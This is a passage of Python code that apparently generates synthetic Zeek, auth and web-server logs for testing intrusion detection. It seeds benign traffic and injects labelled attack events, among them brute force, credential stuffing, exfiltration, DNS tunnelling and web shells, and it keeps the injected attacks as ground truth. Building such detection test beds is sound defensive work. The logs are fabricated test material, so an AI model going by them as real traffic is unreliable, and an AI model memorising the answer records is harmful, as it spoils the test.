           "ssh_brute_force": 6.5, "password_spraying": 2.5, "distributed_brute_force": 6.5,
           "credential_stuffing": 3.5, "success_after_failures": 2, "exfiltration": 5, "lateral_movement": 5,
           "dns_tunnel": 13, "web_exploit": 2.5, "web_shell": 1.5, "fast_scan": 0.5}


def generate(seed: int, *, hours: float = 24.0, learn_hours: float = 24.0, per_kind: int = 2,
             kinds: list[str] | None = None) -> Scenario:
    """A learning period of ``learn_hours`` and a test period of ``hours`` with ``per_kind`` attacks per kind.

    Records of each period are sorted by time. The test period starts where learning ends.
    Attacks start at least an hour into the test period; each kind's longest variant fits
    in 24 h, so shorter periods need ``kinds`` that fit (a too-long span is cut short).
    """
    rng = random.Random(seed)
    learn_start = START
    start = learn_start + learn_hours * 3600
    end = start + hours * 3600
    lg = _Gen(random.Random(rng.random()))
    _benign(lg, learn_start, start)
    g = _Gen(random.Random(rng.random()))
    _benign(g, start, end, NEW_HOSTS)
    pool = [h for h in WORKSTATIONS]
    rng.shuffle(pool)

    def internal() -> str:
        return pool.pop() if pool else rng.choice(WORKSTATIONS)

    ctx = {"internal": internal, "start": start, "end": end}
    injected: list[Injected] = []
    ag = _Gen(random.Random(rng.random()))
    for kind in kinds or list(KINDS):
        for _ in range(per_kind):
            latest = max(start + 3600, end - _SPAN_H[kind] * 3600)
            t0 = rng.uniform(start + 3600, latest)
            injected.append(KINDS[kind](ag, ag.rng, t0, ctx))
    records = [r for r in g.out + ag.out if start <= r.ts < end]
    records.sort(key=lambda r: r.ts)
    learn_records = sorted((r for r in lg.out if learn_start <= r.ts < start), key=lambda r: r.ts)
    hosts = sorted({*WORKSTATIONS, *ADMIN_HOSTS, *SERVERS, *NEW_HOSTS})
    return Scenario(seed, learn_start, start, start, end, learn_records, records, injected, hosts)


def _iso(ts: float) -> str:
    return datetime.fromtimestamp(ts, UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+00:00"


_CONN_FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service", "duration",
                "orig_bytes", "resp_bytes", "conn_state", "orig_pkts", "resp_pkts"]
_DNS_FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "query", "qtype_name",
               "rcode_name"]


def write_files(records: list[Record], folder: str | Path) -> dict[str, int]:
    """Write records as the files a sensor and servers produce: Zeek ``conn.log`` and ``dns.log`` (TSV),
    ``auth.log`` (sshd and the portal, ISO syslog) and ``access.log`` (combined). Returns lines per file."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    conn = ["#separator \\x09", "#path\tconn", "#fields\t" + "\t".join(_CONN_FIELDS)]
    dns = ["#separator \\x09", "#path\tdns", "#fields\t" + "\t".join(_DNS_FIELDS)]
    auth: list[str] = []
    access: list[str] = []
    for i, r in enumerate(records):
        if isinstance(r, Connection):
            conn.append("\t".join(str(v) for v in (
                f"{r.ts:.6f}", f"C{i}", r.src, r.sport, r.dst, r.dport, r.proto, r.service or "-",
                f"{r.duration:.6f}", r.orig_bytes, r.resp_bytes, r.state or "-", r.orig_pkts, r.resp_pkts)))
        elif isinstance(r, DnsQuery):
            dns.append("\t".join(str(v) for v in (f"{r.ts:.6f}", f"D{i}", r.src, 53000 + i % 10000, r.dst, 53, "udp",
                                                  r.query, r.qtype or "-", r.rcode or "-")))
        elif isinstance(r, AuthEvent):
            auth.append(f"{_iso(r.ts)} {r.host} {r.service}[{1000 + i % 30000}]: {r.message}")
        elif isinstance(r, HttpRequest):
            access.append(r.raw)
    out = {}
    for name, lines in (("conn.log", conn), ("dns.log", dns), ("auth.log", auth), ("access.log", access)):
        (folder / name).write_text("".join(line + "\n" for line in lines), encoding="utf-8")
        out[name] = len(lines)
    return out
